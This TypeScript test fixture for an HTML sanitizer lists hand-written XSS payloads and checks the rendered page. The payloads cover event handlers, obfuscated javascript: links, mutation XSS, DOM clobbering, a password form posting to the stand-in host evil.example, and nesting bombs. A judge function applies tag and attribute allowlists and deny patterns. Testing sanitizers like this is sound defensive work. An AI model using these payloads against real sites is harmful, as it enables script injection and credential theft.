/** Attacks inside an article's text, one for each way that is known to us, and what none may leave on the screen. `evil.example` is the attacker. */
import type { Page } from 'puppeteer-core'

export const handWritten: { id: string; html: string }[] = [
  { id: 'a script', html: '<p>a<script>window.pwn=1</script>b</p>' },
  { id: 'a script in capitals, cut', html: '<SCRIPT SRC=https://evil.example/x.js' },
  {
    id: 'handlers',
    html: '<img src=x onerror=window.pwn=1><p onclick=window.pwn=1 onpointerrawupdate=x>a</p><details open ontoggle=window.pwn=1>',
  },
  {
    id: 'a scheme with a tab',
    html: '<a href="java&#x09;script:window.pwn=1">a</a><a href=" &#14; javascript:window.pwn=1">b</a>',
  },
  {
    id: 'other schemes',
    html: '<a href="vbscript:x">a</a><a href="data:text/html,<script>window.pwn=1</script>">b</a><a href="file:///etc/passwd">c</a><a href="blob:https://evil.example/1">d</a><a href="intent://x">e</a>',
  },
  {
    id: 'an svg with a script',
    html: '<svg onload=window.pwn=1><script>window.pwn=1</script><use href="data:image/svg+xml,x#a"/></svg>',
  },
  {
    id: 'an animated link',
    html: '<svg><a><animate attributeName=href values=javascript:window.pwn=1 /><text>x</text></a></svg>',
  },
  {
    id: 'a mutation through mathematics',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwn=1&gt;">',
  },
  {
    id: 'a mutation through a form',
    html: '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.pwn=1 src>">',
  },
  {
    id: 'a noscript with another inside',
    html: '<noscript><p title="</noscript><img src=x onerror=window.pwn=1>"></noscript>',
  },
  {
    id: 'frames',
    html: '<iframe srcdoc="<script>parent.pwn=1</script>"></iframe><iframe src="javascript:parent.pwn=1"></iframe><frameset onload=window.pwn=1><frame src="https://evil.example/"></frameset>',
  },
  {
    id: 'plugins',
    html: '<object data="https://evil.example/x"><embed src="https://evil.example/y"></object><applet code=x>',
  },
  {
    id: 'a page that leads away',
    html: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/z">',
  },
  {
    id: 'styles that call',
    html: '<style>@import url(https://evil.example/y.css)</style><p style="background:url(https://evil.example/t.gif);position:fixed;inset:0">a</p><table background="https://evil.example/b.png"><tr><td background="https://evil.example/c.png">x',
  },
  {
    id: 'a form that asks for a password',
    html: '<form action="https://evil.example/"><input name=password type=password autofocus onfocus=window.pwn=1><button formaction="https://evil.example/">Sign in</button></form>',
  },
  {
    id: 'names that shadow',
    html: '<img name=body id=getElementById src="https://evil.example/1.png"><a id=__proto__ name=cookie href="https://evil.example/">x</a><form id=x><input name=attributes><input name=childNodes></form>',
  },
  {
    id: 'names of our own',
    html: '<p id="article-title" tabindex=0>a</p><p id="note-1">b</p><p id="note-1 ">c</p><h2 id="constructor">d</h2><a href="#article-title">e</a><a href="#note-1">f</a><a href="#note-7">g</a><a href="#__proto__">h</a><a href="#constructor">i</a><a href="#%E0%A4%A">j</a><a id="x" href="#x">k</a><a name="note-2" href="#note-2" onclick=window.pwn=1>l</a>',
  },
  {
    id: 'notes that lead to each other, 2,000 times',
    html: Array.from(
      { length: 2_000 },
      (_, nth) => `<p id="a${nth}"><a href="#a${(nth * 7) % 2_000}">${nth}</a></p>`,
    ).join(''),
  },
  {
    id: 'pictures by other ways',
    html: '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture><input type=image src="https://evil.example/c.png"><video poster="https://evil.example/d.png" src="https://evil.example/e.mp4" autoplay></video><audio src="https://evil.example/f.mp3" autoplay></audio>',
  },
  {
    id: 'candidates that act',
    html: '<img src="https://evil.example/a.png" srcset="javascript:window.pwn=1 1x, data:image/svg+xml,<svg onload=window.pwn=1> 2x, https://evil.example/b.png 3x">',
  },
  {
    id: 'links that call back',
    html: '<a href="https://evil.example/" ping="https://evil.example/ping" target=opener rel=opener download attributionsrc="https://evil.example/">x</a><map name=m><area href="javascript:window.pwn=1"></map>',
  },
  {
    id: 'custom elements and shadows',
    html: '<x-y is=z slot=s part=p onclick=window.pwn=1>x</x-y><div><template shadowrootmode=open><img src=x onerror=window.pwn=1></template></div><slot name=x>y</slot>',
  },
  {
    id: 'popovers and dialogs',
    html: '<button popovertarget=x>a</button><div popover id=x onbeforetoggle=window.pwn=1>b</div><dialog open>c</dialog>',
  },
  { id: 'text that turns around', html: '<p>Safe \u202egpj.exe\u202c invoice</p>' },
  { id: 'a box in a box, 20,000 times', html: '<div>'.repeat(20_000) },
  { id: 'letters that are never closed', html: `${'<p><b><i>'.repeat(3_000)}x` },
  { id: 'quotes that are never closed', html: '<a href="'.repeat(20_000) },
]

/** What is on the screen and may not be, among all of the text. */
export function judge(page: Page, text = 'main *'): Promise<string[]> {
  return page.evaluate((text) => {
    const wrong: string[] = 'pwn' in window ? ['a script ran'] : []
    const allowed =
      /^(?:href|rel|referrerpolicy|target|title|src|srcset|alt|loading|decoding|width|height|colspan|rowspan|scope|dir|lang|datetime|start|reversed|value|open)$/
    for (const element of document.querySelectorAll(text)) {
      const name = element.localName
      if (
        /^(?:script|style|link|meta|base|iframe|frame|object|embed|form|input|button|select|textarea|svg|math|template|noscript|video|audio|source|dialog|.*-.*)$/.test(
          name,
        )
      ) {
        wrong.push(name)
      }
      for (const { name: attribute, value } of element.attributes) {
        const isNote = attribute === 'id' && /^note-\d+$/.test(value)
        if (!isNote && !allowed.test(attribute)) wrong.push(`${name} ${attribute}`)
        if (attribute === 'href' && !/^(?:https?:\/\/|mailto:|#note-\d+$)/.test(value)) wrong.push(value)
        if (attribute === 'src' && !/^https?:\/\//.test(value)) wrong.push(value)
        if (
          /(?:javascript|data|file|chrome|vbscript):/i.test(value) &&
          attribute !== 'title' &&
          attribute !== 'alt'
        )
          wrong.push(value)
      }
      if (element.matches('a:not([href^="#"], [rel="noopener noreferrer"])')) wrong.push('a without its rel')
    }
    let depth = 0
    for (const element of document.querySelectorAll(text)) {
      let own = 0
      for (let at: Element | null = element; at; at = at.parentElement) own += 1
      depth = Math.max(depth, own)
      if (depth > 60) break
    }
    if (depth > 60) wrong.push('too deep')
    return wrong
  }, text)
}
